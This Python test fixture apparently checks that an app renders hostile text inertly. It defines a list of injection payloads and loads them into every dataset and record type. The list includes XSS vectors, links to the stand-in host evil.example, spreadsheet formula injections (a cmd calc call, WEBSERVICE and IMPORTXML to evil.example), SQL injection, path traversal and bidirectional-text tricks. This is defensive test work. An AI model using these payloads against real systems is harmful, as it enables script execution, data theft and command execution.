"""Two hundred texts as people with bad intentions write them, and a store in which they stand wherever a text can stand.

What each would make of itself carries the letters `zq`, so that a test can tell a text that is shown from one that came alive.
"""

from __future__ import annotations

from datetime import datetime, timedelta
from typing import Any

from cx.facts import batches
from cx.facts.datasets import DATASETS
from cx.records.actor import OPEN
from cx.records.refusal import FieldsError
from cx.records.registry import Register, registers
from cx.records.writing import create
from tests.facts.rows import part
from tests.records.filled import values

EVIL = "http://evil.example/zq"
RUN = "window.zqran=1"
COLOURS = ("red", "orange", "green", "blue", "violet", "gray", "rainbow", "primary", "yellow")
DIRECTIONS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
INVISIBLE = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u061c"

PAYLOADS: tuple[str, ...] = (
    # links and pictures of Markdown
    f"[zqlink]({EVIL})", f"[zqlink](<{EVIL}>)", f'[zqlink]({EVIL} "title")', f"[zqref][r]\n\n[r]: {EVIL}", f"![zqpic]({EVIL}.png)", f"![zqpic][r]\n\n[r]: {EVIL}.png", f"[![zqpic]({EVIL}.png)]({EVIL})",
    "[zqlink](javascript:window.zqran=1)", "[zqlink](JaVaScRiPt:window.zqran=1)", "[zqlink](data:text/html,<script>window.zqran=1</script>)", "[zqlink](vbscript:zq)", "[zqlink](//evil.example/zq)", "[zqlink](\\\\evil.example\\zq)",
    "javascript:window.zqran=1", "javascript&colon;window.zqran=1", "java\nscript:window.zqran=1", f"<{EVIL}>", "<zq@evil.example>", f"\\[zqlink]\\({EVIL})", f"*[zqlink]({EVIL})*", f"[](%5B){EVIL}",
    # bare addresses
    EVIL, f"see {EVIL}, now", f"HTTPS{EVIL[4:]}", "www.evil.example/zq", "(www.evil.example)", "zq@evil.example", "write to zq.a+b@mail.evil.example now", "mailto:zq@evil.example", "xmpp:zq@evil.example", "ftp://evil.example/zq", "//evil.example/zq",
    # other Markdown
    "**zqbold**", "__zqbold__", "*zqitalic*", "_zqitalic_", "~~zqgone~~", "`zqcode`", "```zqlang\nzqcode\n```", "~~~\nzqcode\n~~~", "    zqcode", "# zqhead", "###### zqhead", "zqhead\n======", "zqhead\n------", "- zqitem", "* zqitem", "1. zqitem", "- [ ] zqtask",
    "> zqquote", "| zqa | zqb |\n|---|---|\n| zqc | zqd |", "zq[^1]\n\n[^1]: zqnote", "---", "***", "zq\\\nbreak", "&lt;zq&gt;", "&#60;b&#62;zq", "a -> b", "a <- b", "a <-> b", "a -- b", "a >= b", "a ~= b", "```mermaid\ngraph TD; zqa-->zqb\n```",
    # HTML
    f"<script>{RUN}</script>", f"<SCRIPT SRC={EVIL}.js></SCRIPT>", f"<img src=x onerror={RUN}>", f"<img src={EVIL}.png>", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<iframe src={EVIL}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'>", f"<body onload={RUN}>",
    f"<a href={EVIL}>zqlink</a>", f"<a href=javascript:{RUN}>zqlink</a>", f"<object data={EVIL}>", f"<embed src={EVIL}>", f"<link rel=stylesheet href={EVIL}.css>", f"<style>@import '{EVIL}.css'</style>", f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<base href={EVIL}/>",
    f"<form action={EVIL}><input name=zq></form>", f"<video src={EVIL} onerror={RUN}>", f"<audio src={EVIL} onerror={RUN}>", f"<details open ontoggle={RUN}>", f"<input autofocus onfocus={RUN}>", f"<math><mtext><img src=x onerror={RUN}></mtext></math>", "<b>zqbold</b>", "<i>zqitalic</i>", "<h1>zqhead</h1>",
    f"\"><img src=x onerror={RUN}>", f"'><img src=x onerror={RUN}>", f"</script><script>{RUN}</script>", f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[<img src=x onerror={RUN}>]]>", f"<template><img src=x onerror={RUN}></template>", f"%3Cimg%20src=x%20onerror={RUN}%3E",
    f"\\u003cimg src=x onerror={RUN}\\u003e", f"<scr<script>ipt>{RUN}</script>", f"<img/src='x'/onerror={RUN}>", f"<svg><a xlink:href='javascript:{RUN}'><text>zqlink</text></a></svg>", f"<svg><image href={EVIL}.png></svg>", f"<svg><use href={EVIL}.svg#x></svg>", f"<div style='background:url({EVIL}.png)'>zq</div>",
    # what Streamlit makes of words
    *(f":{colour}[zqcolour]" for colour in COLOURS), *(f":{colour}-background[zqcolour]" for colour in COLOURS[:7]), *(f":{colour}-badge[zqbadge]" for colour in COLOURS[:6]), ":small[zqsmall]", ":color[zqcolour]{foreground=\"red\"}", ":shortcut[zq]",
    ":material/skull:", ":material_skull:", ":streamlit:", ":smile:", ":+1:", ":red[:material/skull: **zqbold**]", ":gray[:small[", "]]", "]] **zqbold**", ":badge[zqbadge]", ":material/skull", "\\:material/skull:",
    # formulas of mathematics and templates
    "$zq^2$", "$$zq$$", "$\\href{javascript:window.zqran=1}{zq}$", f"$\\includegraphics{{{EVIL}.png}}$", "costs $5 and $6", "\\(zq\\)", "\\[zq\\]", "{{7*7}}zq", "${7*7}zq", "#{7*7}zq", "<%= 7*7 %>zq", "{zq!r}", "%s%n%x", "{0.__class__}",
    # formulas of spreadsheets
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", f'=HYPERLINK("{EVIL}","zqlink")', f'=IMPORTXML("{EVIL}","//a")', f"=WEBSERVICE(\"{EVIL}\")", "＝1+1", "＋1+1", "'=1+1", '"=1+1"', ";=1+1", ",=1+1", "%0A=1+1",
    # writing that is not what it seems
    *(f"zq{mark}fdp.exe" for mark in DIRECTIONS), *(f"a{mark}z" for mark in INVISIBLE), "zq\x00null", "zq\x1b[31mred", "zq\x07bell", "zq\x08\x08back", "zq\x7f", "zq\u2028line", "zq\u2029line", "zq\x85next", "\ufffe", "Z͑͗̎ͫ̚aͮ̆̔l̉̾̎g̑ͤo" * 3,
    "zq" * 400, "W" * 900, "👩‍👩‍👧‍👦🏳️‍🌈👍🏽" * 3, "🇩🇪🇫🇷", "ﷺ" * 20, "ｚｑ　ｗｉｄｅ", "ǅ İ ı ß ﬁ", "NULL", "None", "nan", "undefined", "true", "-0", "1e309", "../../etc/passwd", "C:\\zq\\..\\con", "zq'; DROP TABLE audit; --", '" OR 1=1 --', "Robert\"); zq", " ", "zq  two  blanks",
)  # fmt: skip
BASE = datetime(2026, 10, 1, 9)
NUMBERS = {"scale_min": 0.0, "scale_max": 10.0, "max_score": 10.0, "rating_max": 5.0, "satisfaction_max": 5.0, "sentiment": -0.5, "probability": 50.0}
ENDS = ("ended_at", "closed_at", "resolved_at", "delivered_at", "completed_at", "left_at", "replied_at", "first_response_at", "expires_at", "renews_at", "promised_at", "expected_close_at")


def row(dataset: str, i: int, text: str) -> dict[str, Any]:
    """A row of a dataset with the text in each of its text columns."""
    made: dict[str, Any] = {"key": f"{dataset}-{i}"}
    for number, (column, kind) in enumerate(DATASETS[dataset].types.items()):
        at = BASE + timedelta(hours=i % 600)
        made[column] = {
            str: text, float: NUMBERS.get(column, float(1 + (i + number) % 9)), int: 100 + (i * 7 + number) % 50, bool: True, datetime: at + timedelta(hours=2) if column in ENDS else at,
        }[kind]  # fmt: skip
    return made | {name: value for name, value in {"currency": "EUR", "metric": "nps", "question": "nps", "left_at": None}.items() if name in made}


def facts(url: str) -> None:
    """Load every dataset with every text; answers eight times each, so that no group is too small to be shown."""
    for dataset in DATASETS:
        times = 8 if dataset == "responses" else 1
        rows = [row(dataset, i, text) | ({"customer_id": f"{text}{i}"} if times > 1 else {}) for i, text in enumerate(PAYLOADS * times)]
        batches.load(dataset, [part(dataset, rows)], batches.Origin(source=PAYLOADS[0], tool="csv", survey=PAYLOADS[4]), url)


def records(url: str, texts: tuple[str, ...]) -> list[str]:
    """A record of every register for each of the texts; returns the registers that took none."""
    return [name for name, kind in registers().items() if not any(_kept(kind, url, text) for text in texts)]


def _kept(kind: Register, url: str, text: str) -> bool:
    try:
        create(kind, values(kind, url, text), OPEN, url=url)
    except FieldsError:
        return False  # a field that takes no such text: an address, a code
    return True
